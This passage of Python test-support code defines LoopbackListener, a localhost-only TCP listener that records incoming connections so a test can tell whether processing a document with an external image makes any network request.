        stack.extend((item, f"{path} {key}") for key, item in reversed(list(value.items())))


# --------------------------------------------------------------------------------------------------
# A network witness
# --------------------------------------------------------------------------------------------------


class LoopbackListener:
    """A TCP listener on 127.0.0.1 (a free port) that records every connection made to it.

    Use as a context manager; ``url(path)`` gives an http URL on it (for ``docx_with_external_image``),
    ``connections`` the first bytes each client sent (an HTTP request line, say). Nothing is answered:
    the point is to see whether anything connects at all.
    """

    def __init__(self) -> None:
        import socket

        self._server = socket.create_server(("127.0.0.1", 0))
        self.port = self._server.getsockname()[1]
        self.connections: list[bytes] = []
        self._thread = None

    def url(self, path: str = "/picture.png") -> str:
        return f"http://127.0.0.1:{self.port}{path}"

    def __enter__(self) -> LoopbackListener:
        import threading

        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()
        return self

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self._server.accept()
            except OSError:
                return
            with client:
                client.settimeout(2)
                try:
                    self.connections.append(client.recv(1024))
                except OSError:
                    self.connections.append(b"")

    def __exit__(self, *exc) -> None:
        import socket

        try:
            self._server.shutdown(socket.SHUT_RDWR)  # wakes the accept() that close() alone would not
        except OSError:
            pass
        self._server.close()
        if self._thread is not None:
            self._thread.join(timeout=5)
